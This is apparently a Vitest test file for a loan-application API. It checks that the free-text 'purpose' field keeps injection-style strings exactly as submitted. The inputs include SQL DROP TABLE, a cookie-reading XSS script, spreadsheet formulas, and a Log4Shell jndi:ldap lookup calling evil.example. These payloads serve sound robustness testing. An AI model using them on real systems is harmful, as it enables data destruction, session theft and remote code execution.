import { describe, expect, test } from 'vitest';
import { succeed } from '../../support/api/client.ts';
import { callers, createOffice, foundThroughApi } from '../../support/api/office.ts';
import { application, FUND } from '../../support/world.ts';

const office = createOffice();
await foundThroughApi(office.api);

describe('texts that mean something elsewhere', () => {
  test.each(
    [
      "研发'); DROP TABLE Journal;--",
      '<script>alert(document.cookie)</script>',
      '=HYPERLINK("http://evil.example","凭证")',
      '+86 023 4988 1234',
      "@SUM(1+1)*cmd|'/C calc'!A0",
      '$' + '{jndi:ldap://evil.example/a} {{7*7}} %0d%0aSet-Cookie:x=1',
      '\\u0000 \\" {"amountFen":"1"}',
      '#head pk=seed#head BOOK#seed',
      '𠮷野家研发 👩🏻',
      'toString constructor __proto__',
    ].map((purpose, i) => [purpose, i] as const),
  )('given the purpose %s, then it is kept and given back as it came', async (purpose, n) => {
    const path = `/funds/${FUND}/loans/applications`;
    const body = application(n, 30_000_000n, { purpose });
    const { id } = await succeed(office.api, { method: 'POST', path, as: callers.officer, body });
    const read = { method: 'GET', path: `/funds/${FUND}/cases/${id}`, as: callers.auditor };
    const { proposal } = await succeed(office.api, read);
    expect(proposal).toMatchObject({ content: { application: { purpose, amountFen: '30000000' } } });
  });
});
